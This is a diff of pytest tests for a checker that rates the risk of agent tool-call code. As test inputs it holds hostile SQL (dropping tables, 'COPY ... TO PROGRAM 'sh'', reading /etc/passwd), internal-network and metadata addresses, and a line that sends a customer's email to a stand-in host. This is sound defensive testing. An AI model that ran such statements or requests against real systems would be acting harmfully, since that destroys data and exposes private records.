@@ -6,7 +6,9 @@ from collections.abc import Callable
 
 import pytest
 
-from workbench.records import EffectKind, Risk, Verdict
+from workbench.analysis.interpreter.tool_lookup import ToolLookup, UnknownTool, by_name, tool_lookup
+from workbench.permissions.tool_annotations import tool_risk
+from workbench.records import EffectKind, Hints, Risk, Tool, Verdict
 
 DELETES = [
     "from servers.demo import delete_customer\nawait delete_customer(id=1)",
@@ -193,3 +195,124 @@ def test_the_sandboxs_own_ways_to_files_are_judged_like_open(judge):
         assert [(one.rule, one.subject) for one in verdict.findings] == [("file.write", "workspace/a.csv")]
         assert verdict.risk is Risk.MEDIUM
     assert judge("print(read_file('workspace/a.csv'))").impact.read == ("workspace/a.csv",)
+
+
+# ── what a tool is given can make even a reading tool risky ──────────────────────────────────────────
+Rules = Callable[[str], dict[str, Risk]]
+
+
+def _list(argument: str) -> str:
+    return f"from servers.demo import list_orders\nawait list_orders({argument})"
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "delete from orders",
+        "select 1; drop table users",
+        "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
+        "/* harmless */ UPDATE users SET admin = true",
+        "EXPLAIN ANALYZE DELETE FROM users",
+        "COPY users TO PROGRAM 'sh'",
+        "SELECT pg_read_file('/etc/passwd')",
+        "SELECT * FROM users INTO OUTFILE '/tmp/x'",
+    ],
+)
+@pytest.mark.parametrize("key", ["sql", "query"])
+def test_a_statement_that_changes_is_high(statement: str, key: str, rules: Rules) -> None:
+    assert rules(_list(f'{key}="{statement}"'))["tool.sql"] is Risk.HIGH
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "SELECT deleted, updated_at FROM orders WHERE action = 'drop'",
+        "WITH recent AS (SELECT * FROM orders) SELECT replace(name, 'a', 'b') FROM recent",
+        "EXPLAIN SELECT 1",
+    ],
+)
+def test_a_statement_that_reads_is_not(statement: str, rules: Rules) -> None:
+    assert "tool.sql" not in rules(_list(f'sql="{statement}"'))
+
+
+@pytest.mark.parametrize("words", ["update on the launch", "delete account", "insert coin", "create index cards"])
+def test_words_to_search_for_are_no_statement(words: str, rules: Rules) -> None:
+    assert "tool.sql" not in rules(_list(f"query={words!r}"))
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "http://169.254.169.254/latest/meta-data",
+        "http://localhost:8080/admin",
+        "http://user@10.0.0.5/",
+        "http://[::1]/",
+        "http://2130706433/",
+        "file:///etc/passwd",
+    ],
+)
+def test_an_address_inside_the_network_is_high(address: str, rules: Rules) -> None:
+    assert rules(f"from servers.web import fetch_page\nawait fetch_page(url={address!r})")["tool.address"] is Risk.HIGH
+
+
+@pytest.mark.parametrize("address", ["https://example.org/localhost", "https://docs.example/10.0/", "http://11.2.3.4/"])
+def test_an_address_outside_is_only_read(address: str, rules: Rules) -> None:
+    assert "tool.address" not in rules(f"from servers.web import fetch_page\nawait fetch_page(url={address!r})")
+
+
+def test_private_data_inside_an_address_goes_out_with_it(rules: Rules) -> None:
+    code = (
+        "from servers.demo import get_customer\nfrom servers.web import fetch_page\n"
+        "c = await get_customer(id=1)\nawait fetch_page(url=f\"https://x.example/{c['mail']}\")"
+    )
+    assert rules(code)["flow.private"] is Risk.HIGH
+
+
+def test_following_a_link_out_of_private_data_tells_its_host_which_one_was_read(rules: Rules) -> None:
+    code = (
+        "from servers.demo import get_customer\nfrom servers.web import fetch_page\n"
+        "c = await get_customer(id=1)\nawait fetch_page(url=c['link'])"
+    )
+    assert rules(code)["flow.private"] is Risk.HIGH
+
+
+def test_a_path_that_climbs_is_medium(rules: Rules) -> None:
+    assert rules(_list("path='../../notes.md'"))["tool.path"] is Risk.MEDIUM
+
+
+# ── names in code find their tools: raw, generated, or nearly ────────────────────────────────────────
+@pytest.fixture
+def book(tools: tuple[Tool, ...]) -> ToolLookup:
+    return ToolLookup(tools)
+
+
+def test_an_unknown_tool_comes_with_the_nearest_names(book: ToolLookup) -> None:
+    found = book.find("demo", "list_order")
+    assert isinstance(found, UnknownTool)
+    assert found.server_known
+    assert found.nearest[0] == "demo.list_orders"
+    missing = book.find("nowhere", "x")
+    assert isinstance(missing, UnknownTool)
+    assert not missing.server_known
+
+
+def test_of_tools_whose_names_collide_the_exact_one_wins_and_else_the_riskiest() -> None:
+    reading, deleting = Tool("s", "a-b", hints=Hints(read_only=True)), Tool("s", "a.b", hints=Hints(destructive=True))
+    book = ToolLookup([reading, deleting])
+    assert book.find("s", "a-b") is reading
+    assert book.find("s", "a_b") is deleting
+
+
+def test_without_a_catalogue_names_must_do() -> None:
+    found = ToolLookup(None).find("any", "get_thing")
+    assert isinstance(found, Tool)
+    assert tool_risk(found) is Risk.LOW
+    assert tool_risk(by_name("any", "thing_do")) is Risk.HIGH
+
+
+def test_a_list_that_nobody_can_change_is_read_once_and_another_one_anew():
+    tools = (Tool("a", "one"), Tool("a", "two"))
+    assert tool_lookup(tools) is tool_lookup(tools)
+    assert tool_lookup((*tools, Tool("a", "three"))).find("a", "three") == Tool("a", "three")
+    assert isinstance(tool_lookup(tools).find("a", "three"), UnknownTool)
+    assert tool_lookup(list(tools)) is not tool_lookup(list(tools))
